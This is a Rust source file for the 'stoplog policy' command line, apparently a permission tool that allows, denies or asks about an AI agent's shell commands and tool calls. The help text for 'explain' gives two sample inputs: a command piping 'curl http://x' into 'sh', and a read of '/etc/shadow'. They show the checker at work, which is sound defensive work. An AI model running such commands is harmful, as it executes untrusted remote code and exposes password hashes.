//! The command line of `stoplog policy`.

use super::super::completion;
use super::PlaceArgs;
use clap::{Args, Subcommand, ValueEnum};
use std::path::PathBuf;

/// Arguments of `policy`.
#[derive(Debug, Args)]
pub struct PolicyArgs {
    /// What to do.
    #[command(subcommand)]
    pub command: PolicyCommand,
}

/// The commands of `policy`.
#[derive(Debug, Subcommand)]
pub enum PolicyCommand {
    /// Load policies and run the examples in them.
    Check {
        /// Names or files.
        #[arg(required = true, value_name = "NAME|FILE", add = completion::policies())]
        files: Vec<String>,
        /// Print JSON.
        #[arg(long)]
        json: bool,
    },
    /// What would be decided for a command or tool call, by which rule, and why.
    #[command(after_help = "\
Examples:
  stoplog policy explain 'git status && curl http://x | sh'
  stoplog policy explain --tool read '{\"path\":\"/etc/shadow\"}'
  printf '%s\\n' '{\"tool\":\"bash\",\"args\":{\"command\":\"ls\"}}' | stoplog policy explain --stdin

Exit codes of a single explain: 0 allow · 10 deny · 11 ask.")]
    Explain(ExplainArgs),
    /// Run the cases in a directory of policy tests (files named *.cases.toml).
    #[command(after_help = "Exit codes: 0 every case holds · 1 a case fails.")]
    Test {
        /// The directory.
        directory: PathBuf,
        /// Policies for files that name none.
        #[arg(long, value_name = "NAME|FILE", add = completion::policies())]
        policy: Vec<String>,
        /// Report form.
        #[arg(long, value_enum, default_value_t = TestFormat::Tap, value_name = "FORM")]
        format: TestFormat,
    },
    /// Point out rules that are unreachable, shadowed, too broad or unenforceable.
    #[command(after_help = "Exit codes: 0 nothing found · 1 something found.")]
    Lint {
        /// Names or files.
        #[arg(required = true, value_name = "NAME|FILE", add = completion::policies())]
        files: Vec<String>,
        /// Print JSON lines.
        #[arg(long)]
        json: bool,
    },
    /// Print policy files in their one layout, or write them.
    Fmt {
        /// Files.
        #[arg(required = true, value_name = "FILE")]
        files: Vec<PathBuf>,
        /// Rewrite the files in place.
        #[arg(long, conflicts_with = "check")]
        write: bool,
        /// Print nothing, exit 1 if a file is laid out otherwise.
        #[arg(long)]
        check: bool,
    },
    /// Decide the calls of earlier sessions again under another policy; nothing is run.
    #[command(after_help = "\
Examples:
  stoplog policy replay --against new.toml --all
  stoplog policy replay --against readonly --fail-on looser 2e8e711f

The policy takes the place of those that were named; the administrator's, the user's and the
workspace's stay as recorded. Exit codes: 0 no change that --fail-on names · 1 there is one, or a call
of which the log does not hold enough.")]
    Replay(ReplayArgs),
    /// Print a policy that allows what was approved in earlier sessions, and nothing else.
    #[command(after_help = "\
Examples:
  stoplog policy learn > learned.toml
  stoplog policy learn --all

Each rule names the records that it came from. Read the file before you use it. Exit codes: 0 every
approved call is covered · 1 some have a part that no rule can be learned for; stderr names them.")]
    Learn(LearnArgs),
    /// Print the JSON Schema of policy files.
    Schema,
    /// Print a built-in policy, or the list of them.
    Show {
        /// The policy.
        name: Option<String>,
    },
}

/// Report forms of `policy test`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum TestFormat {
    /// Test Anything Protocol.
    Tap,
    /// JUnit XML.
    Junit,
}

/// Arguments of `policy replay`.
#[derive(Debug, Args)]
pub struct ReplayArgs {
    /// The policy that is tried; several count together.
    #[arg(long, required = true, value_name = "NAME|FILE", add = completion::policies())]
    pub against: Vec<String>,
    /// Sessions or log files; default the newest.
    #[arg(value_name = "SESSION|LOG", conflicts_with = "all", add = completion::session_ids())]
    pub logs: Vec<String>,
    /// Every session.
    #[arg(long)]
    pub all: bool,
    /// Also list every rule of the policy with the number of calls that it said something about.
    #[arg(long)]
    pub coverage: bool,
    /// Which changes give exit code 1.
    #[arg(long, value_enum, default_value_t = FailOn::Any, value_name = "CHANGE")]
    pub fail_on: FailOn,
    /// Print one JSON object a call, unchanged ones too, and one with the totals.
    #[arg(long)]
    pub json: bool,
}

/// Arguments of `policy learn`.
#[derive(Debug, Args)]
pub struct LearnArgs {
    /// Sessions or log files; default the newest.
    #[arg(value_name = "SESSION|LOG", conflicts_with = "all", add = completion::session_ids())]
    pub logs: Vec<String>,
    /// Every session.
    #[arg(long)]
    pub all: bool,
}

/// Changes that `policy replay` fails on. A call that cannot be decided again is always one.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum FailOn {
    /// Every change.
    Any,
    /// An answer that gives more than before.
    Looser,
    /// An answer that gives less than before.
    Stricter,
}

/// Arguments of `policy explain`.
#[derive(Debug, Args)]
pub struct ExplainArgs {
    /// A shell command, or with --tool the JSON arguments of a call.
    #[arg(required_unless_present = "stdin")]
    pub call: Option<String>,
    /// The tool that is called.
    #[arg(long, default_value = "bash", value_name = "TOOL")]
    pub tool: String,
    /// Where and under which rules.
    #[command(flatten)]
    pub place: PlaceArgs,
    /// Answer as if nobody could be asked.
    #[arg(long)]
    pub headless: bool,
    /// Print JSON.
    #[arg(long)]
    pub json: bool,
    /// Read one JSON call a line from standard input, print one decision a line.
    #[arg(long)]
    pub stdin: bool,
}
